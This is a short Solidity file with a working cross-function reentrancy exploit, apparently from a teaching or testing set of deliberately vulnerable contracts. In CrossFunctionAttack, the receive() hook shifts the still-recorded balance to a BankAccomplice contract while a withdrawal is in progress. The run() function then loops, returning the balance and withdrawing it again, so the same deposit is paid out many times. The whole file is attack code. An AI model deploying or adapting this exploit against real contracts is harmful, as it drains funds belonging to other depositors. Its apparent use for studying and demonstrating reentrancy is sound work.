// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity 0.8.30;

import {TransferableBankBase} from "../vulnerable/TransferableBank.sol";
import {Exploit} from "./Exploit.sol";

/// @notice Keeps a balance out of sight until it is asked for again.
contract BankAccomplice {
    TransferableBankBase private immutable _bank;
    address private immutable _leader = msg.sender;

    constructor(TransferableBankBase bank) {
        _bank = bank;
    }

    function giveBack() external {
        _bank.transfer(_leader, _bank.balanceOf(address(this)));
    }
}

/// @notice Cross-function reentrancy: when it is paid, gives the balance that is still there to an accomplice.
contract CrossFunctionAttack is Exploit {
    TransferableBankBase private immutable _bank;
    BankAccomplice private immutable _accomplice;

    constructor(TransferableBankBase bank) {
        _bank = bank;
        _accomplice = new BankAccomplice(bank);
    }

    receive() external payable {
        uint256 still = _bank.balanceOf(address(this));
        if (still > 0) _bank.transfer(address(_accomplice), still);
    }

    /// @param rounds how many times the same balance is withdrawn, besides the first.
    function run(uint256 rounds) external payable onlyOperator {
        _bank.deposit{value: msg.value}();
        _bank.withdraw();
        for (uint256 i; i < rounds; ++i) {
            _accomplice.giveBack();
            _bank.withdraw();
        }
    }
}
